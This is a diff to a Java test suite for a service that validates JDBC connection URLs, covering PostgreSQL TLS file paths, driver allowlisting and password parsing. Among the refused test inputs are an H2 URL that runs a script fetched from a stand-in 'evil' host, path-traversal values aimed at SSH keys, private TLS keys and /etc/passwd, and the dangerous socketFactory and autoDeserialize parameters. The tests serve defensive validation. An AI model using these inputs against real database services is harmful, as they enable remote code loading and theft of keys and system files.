@@ -36,8 +36,29 @@ class JdbcUrlsTest {
         return new HostPort(host, port);
     }
 
+    /** The parameters of a URL handed to the driver, decoded as PostgreSQL's driver decodes them. */
+    private static Map<String, String> parameters(String url) {
+        Map<String, String> parameters = new LinkedHashMap<>();
+        for (String parameter : url.substring(url.indexOf('?') + 1).split("&")) {
+            int equals = parameter.indexOf('=');
+            if (!parameter.isEmpty()) {
+                parameters.put(equals < 0 ? parameter : parameter.substring(0, equals),
+                        equals < 0 ? "" : URLDecoder.decode(parameter.substring(equals + 1), StandardCharsets.UTF_8));
+            }
+        }
+        return parameters;
+    }
+
+    /** The TLS files PostgreSQL's driver reads, in the project's directory, where the URL names none. */
+    private Map<String, String> projectsTlsFiles() throws java.io.IOException {
+        Path root = project.toRealPath();
+        return Map.of("sslcert", root.resolve(".postgresql/postgresql.crt").toString(),
+                "sslkey", root.resolve(".postgresql/postgresql.pk8").toString(),
+                "sslrootcert", root.resolve(".postgresql/root.crt").toString());
+    }
+
     @Test
-    void postgresqlHostsAreReadAsItsDriverReadsThem() {
+    void postgresqlHostsAreReadAsItsDriverReadsThem() throws Exception {
         Map<String, List<HostPort>> urls = new LinkedHashMap<>();
         urls.put("jdbc:postgresql://db.internal/orders", List.of(at("db.internal", 5432)));
         urls.put("jdbc:postgresql://db.internal:6543/orders?sslmode=require", List.of(at("db.internal", 6543)));
@@ -55,8 +76,14 @@ class JdbcUrlsTest {
             JdbcUrls.JdbcUrl parsed = parse(url);
             assertThat(parsed.driver()).as(url).isEqualTo("postgresql");
             assertThat(parsed.hosts()).as(url).isEqualTo(hosts);
-            assertThat(parsed.url()).as(url).isEqualTo(url);
+            assertThat(parsed.url()).as(url).startsWith(url.contains("?") ? url : url + "?");
         });
+        // The driver would read the TLS files of the service's home where the URL names none: the project's instead.
+        JdbcUrls.JdbcUrl parsed = parse("jdbc:postgresql://db.internal/orders?sslmode=verify-full");
+        assertThat(parsed.url()).startsWith("jdbc:postgresql://db.internal/orders?sslmode=verify-full&sslcert=");
+        Map<String, String> expected = new LinkedHashMap<>(Map.of("sslmode", "verify-full"));
+        expected.putAll(projectsTlsFiles());
+        assertThat(parameters(parsed.url())).isEqualTo(expected);
     }
 
     @Test
@@ -84,7 +111,7 @@ class JdbcUrlsTest {
         String url = "jdbc:postgresql://db.internal/orders?sslmode=verify-full&ApplicationName=my%20job&user=me"
                 + "&password=" + SECRET + "&connectTimeout=5&options=-c%20search_path%3Dsales&tcpKeepAlive"
                 + "&&reWriteBatchedInserts=true&gssEncMode=disable&targetServerType=preferSecondary&";
-        assertThat(parse(url).url()).isEqualTo(url);
+        assertThat(parse(url).url()).startsWith(url.substring(0, url.length() - 1) + "&sslcert=");
         assertThat(parse(url).toString()).doesNotContain(SECRET).contains("db.internal:5432");
 
         refused("jdbc:postgresql://db.internal/orders?password=" + SECRET + "&socketFactory=org.h2.Driver",
@@ -129,18 +156,12 @@ class JdbcUrlsTest {
         Files.createDirectories(root.resolve("certs"));
         JdbcUrls.JdbcUrl parsed = parse("jdbc:postgresql://db.internal/orders?sslmode=verify-full"
                 + "&sslrootcert=certs/root%20ca.crt&user=me&password=" + SECRET + "&sslkey=certs/../client.pk8");
-        String query = parsed.url().substring(parsed.url().indexOf('?') + 1);
-        Map<String, String> parameters = new LinkedHashMap<>();
-        for (String parameter : query.split("&")) {
-            int equals = parameter.indexOf('=');
-            parameters.put(parameter.substring(0, equals),
-                    URLDecoder.decode(parameter.substring(equals + 1), StandardCharsets.UTF_8));
-        }
         assertThat(parsed.url()).startsWith("jdbc:postgresql://db.internal/orders?sslmode=verify-full&sslrootcert=");
-        assertThat(parameters).containsExactly(Map.entry("sslmode", "verify-full"),
+        assertThat(parameters(parsed.url())).containsExactly(Map.entry("sslmode", "verify-full"),
                 Map.entry("sslrootcert", root.resolve("certs/root ca.crt").toString()),
                 Map.entry("user", "me"), Map.entry("password", SECRET),
-                Map.entry("sslkey", root.resolve("client.pk8").toString()));
+                Map.entry("sslkey", root.resolve("client.pk8").toString()),
+                Map.entry("sslcert", projectsTlsFiles().get("sslcert")));
 
         for (String outside : new String[]{"/etc/ssl/private/server.key", "../other/key.pk8", "file:///root/.ssh/id",
                 "%2Fetc%2Fpasswd", ""}) {
@@ -234,11 +255,35 @@ class JdbcUrlsTest {
     @Test
     void otherDriversAreRefusedNamingTheOnesAllowed() {
         refused("jdbc:oracle:thin:@db.internal:1521/orders", "is a URL for the JDBC driver 'oracle', which this "
-                + "service does not allow; it allows mysql, postgresql");
+                + "service does not allow; jobs are given the driver of postgresql");
         refused("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "the JDBC driver 'h2'");
         refused("jdbc:postgres://db.internal/orders", "the JDBC driver 'postgres'");
         refused("JDBC:postgresql://db.internal/orders", "is not a JDBC URL");
         refused("postgresql://db.internal/orders", "is not a JDBC URL");
+    }
+
+    @Test
+    void whatFollowsAPasswordIsNotNamedUnlessItIsAParameterThisServiceKnows() {
+        // A password holding an '&' the URL does not percent-encode: the driver takes its rest for a parameter.
+        for (String url : new String[]{"jdbc:postgresql://db.internal/orders?password=Correct&Horse",
+                "jdbc:postgresql://db.internal/orders?password=Correct&Horse=Battery&user=me",
+                "jdbc:postgresql://db.internal/orders?sslpassword=Correct&Horse",
+                "jdbc:postgresql://db.internal/orders?password=Correct&socketFactory",
+                "jdbc:postgresql://db.internal/orders?password=Correct&Horse=%zzBattery",
+                "jdbc:mysql://db.internal/orders?password=Correct&Horse",
+                "jdbc:mysql://db.internal/orders?PASSWORD=Correct&Horse=Battery"}) {
+            assertThatThrownBy(() -> parse(url)).as(url).isInstanceOf(PolicyViolation.class)
+                    .message().doesNotContain("Correct").doesNotContain("Horse").doesNotContain("Battery");
+        }
+        refused("jdbc:postgresql://db.internal/orders?password=Correct&Horse", "gives a parameter after its password "
+                + "that this service does not allow for PostgreSQL; it is not named here, as it may be the rest of the "
+                + "password (percent-encode a password's '&' as %26)");
+        refused("jdbc:postgresql://db.internal/orders?password=x&socketFactory=y", "'socketFactory', which no job may "
+                + "set");
+        refused("jdbc:mysql://db.internal/orders?password=x&autoDeserialize=true", "'autoDeserialize', which no job "
+                + "may set");
+        assertThat(parse("jdbc:postgresql://db.internal/orders?password=x&ssl").hosts())
+                .containsExactly(at("db.internal", 5432));
     }
 
     @Test
